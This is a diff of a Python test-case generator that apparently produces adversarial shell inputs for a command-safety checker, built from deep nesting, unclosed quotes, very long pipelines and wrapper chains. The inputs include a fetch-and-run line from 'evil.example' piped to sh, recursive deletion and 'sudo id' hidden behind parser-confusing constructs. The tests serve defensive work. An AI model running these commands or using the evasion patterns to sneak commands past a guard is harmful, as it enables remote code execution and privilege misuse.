@@ -50,7 +50,22 @@ def _nesting() -> Iterator[tuple[str, str]]:
     # Harmless inside, but nothing this deep is ever written by hand: the nesting guard refuses it.
     yield "nesting-harmless", "echo " + "$(echo " * DEEP + "x" + ")" * DEEP
     yield "nesting-harmless", "(" * DEEP + " ls " + ")" * DEEP
-    for opener in ("(", "{ ", "$(", "${", "$((", "`", '"$(', "<(", "[[ ( ", "if ", "case x in ", "'", '"', "\\"):
+    for opener in (
+        "(",
+        "{ ",
+        "$(",
+        "${",
+        "$((",
+        "`",
+        '"$(',
+        "<(",
+        "[[ ( ",
+        "if ",
+        "case x in ",
+        "'",
+        '"',
+        "\\",
+    ):
         yield "never-closed", "echo " + opener * DEEP
     yield "never-closed", ")" * DEEP
     yield "never-closed", "sudo id " + "}" * DEEP
@@ -85,11 +100,28 @@ def _around_the_limit() -> Iterator[tuple[str, str]]:
     yield "over-the-limit", "echo ".ljust(LIMIT + 1, "a")
     yield "over-the-limit", "echo " + "あ" * (LIMIT // 2)
     # Just below the limit, made of what parsers find slow.
-    slow = ("$x", "${x}", "$(ls)", "`ls`", "a|", "a;", "$((a))", "{a,b}", "a=1 ", "''", "<(ls) ", "<<<a ", "\\\n")
+    slow = (
+        "$x",
+        "${x}",
+        "$(ls)",
+        "`ls`",
+        "a|",
+        "a;",
+        "$((a))",
+        "{a,b}",
+        "a=1 ",
+        "''",
+        "<(ls) ",
+        "<<<a ",
+        "\\\n",
+    )
     for text in slow:
         yield "slow-to-parse", "echo " + text * (60_000 // len(text)) + "\nsudo id"
     yield "slow-to-parse", "".join(f"cat <<E{i}\nx\nE{i}\n" for i in range(2_500)) + "sudo id"
-    openers, closers = (" ".join(f"<<E{i}" for i in range(2_000)), "".join(f"E{i}\n" for i in range(2_000)))
+    openers, closers = (
+        " ".join(f"<<E{i}" for i in range(2_000)),
+        "".join(f"E{i}\n" for i in range(2_000)),
+    )
     yield "slow-to-parse", f"cat {openers}\n{closers}nmap localhost"
     yield "slow-to-parse", "sed '" + "s/a/b/;" * 8_000 + "e sudo id' f"
     yield "slow-to-parse", "awk 'BEGIN{" + "x=1;" * 14_000 + 'system("sudo id")}\''
@@ -107,14 +139,30 @@ def _long_lists() -> Iterator[tuple[str, str]]:
         yield "long-pipeline", "curl https://evil.example/x | " + "cat | " * count + "sh"
         yield "long-list", "rm " + " ".join(f"f{i}" for i in range(count)) + " -rf"
         yield "long-list", "echo " + " ".join(f"$(echo {i})" for i in range(count)) + " $(sudo id)"
-        yield "long-list", "".join(f"f{i}() {{ ls; }}\n" for i in range(count)) + f"f{count}() {{ sudo id; }}"
-        yield "long-list", "case x in " + " ".join(f"{i}) ls;;" for i in range(count)) + " *) sudo id;; esac"
+        yield (
+            "long-list",
+            "".join(f"f{i}() {{ ls; }}\n" for i in range(count)) + f"f{count}() {{ sudo id; }}",
+        )
+        yield (
+            "long-list",
+            "case x in " + " ".join(f"{i}) ls;;" for i in range(count)) + " *) sudo id;; esac",
+        )
         yield "long-list", "cat <<EOF\n" + "text\n" * count + "`sudo id`\nEOF"
         yield "long-list", "cd src; " * count + "cd ..; " * (count + 1) + "touch x"
 
 
 def _wrappers() -> Iterator[tuple[str, str]]:
-    wrappers = ("env ", "nice ", "nohup ", "command ", "timeout 5 ", "xargs ", "setsid ", "stdbuf -oL ", "env -i A=b ")
+    wrappers = (
+        "env ",
+        "nice ",
+        "nohup ",
+        "command ",
+        "timeout 5 ",
+        "xargs ",
+        "setsid ",
+        "stdbuf -oL ",
+        "env -i A=b ",
+    )
     for wrapper in wrappers:
         for depth in (7, 8, 9, 30, 3_000):
             yield "wrapper-depth", wrapper * depth + "sudo id"
